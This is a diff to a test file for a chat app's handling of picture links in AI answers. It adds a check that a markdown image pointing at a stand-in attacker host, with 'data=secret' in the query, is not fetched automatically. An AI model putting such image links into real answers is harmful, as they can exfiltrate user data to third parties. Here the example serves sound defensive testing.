@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { drawing, files as F, type chat } from '@atelier/contracts';
 import { callEndpoint } from '../../test/call-endpoint.js';
 import { bearer } from '../../test/harness.js';
-import { answerPictureGuard } from './answer-pictures.js';
+import { answerPictureGuard, isPictureHost, keepAnswerPictures } from './answer-pictures.js';
 import { samplePdf } from './chat-files.setup.js';
 import {
   admin,
@@ -226,7 +226,7 @@ describe('pictures in answers', () => {
     }
   });
 
-  it('copies a markdown picture link through the address guard, never keeping the link', async () => {
+  it('copies a picture link of the provider through the address guard, and no other by itself', async () => {
     const groupId = await newGroup(bearer(alice.token));
     // Refused by the guard as it is: the fake is on loopback, so the link stays as it came.
     const refused = await stream(bearer(alice.token), {
@@ -249,10 +249,25 @@ describe('pictures in answers', () => {
     } finally {
       answerPictureGuard.options = {};
     }
+    // A link to any other host is left for a click: nothing is fetched by itself.
+    const other = await keepAnswerPictures(t.app.ctx, {
+      userId: alice.userId,
+      prompt: 'x',
+      groupId,
+      text: 'See ![](https://attacker.example/x.png?data=secret)',
+      parts: ['https://attacker.example/y.png'],
+      hosts: ['127.0.0.1', '*.cdn.example'],
+    });
+    expect(other).toEqual({
+      text: 'See ![](https://attacker.example/x.png?data=secret)\n\n![](https://attacker.example/y.png)',
+      pictures: [],
+    });
+    expect(isPictureHost('https://img.cdn.example/a.png', ['*.cdn.example'])).toBe(true);
+    expect(isPictureHost('https://cdn.example.evil/a.png', ['*.cdn.example'])).toBe(false);
     // Bob reads nothing of Alice's pictures.
     const [, answer] = (await logsOf(bearer(alice.token), groupId)).slice(-2);
     const link = /\]\((\/api\/files\/[^?)]+)/.exec(answer!.content)![1]!;
-    const other = await t.app.inject({ method: 'GET', url: link, headers: bearer(bob.token) });
-    expect(other.statusCode).toBe(404);
+    const forBob = await t.app.inject({ method: 'GET', url: link, headers: bearer(bob.token) });
+    expect(forBob.statusCode).toBe(404);
   });
 });
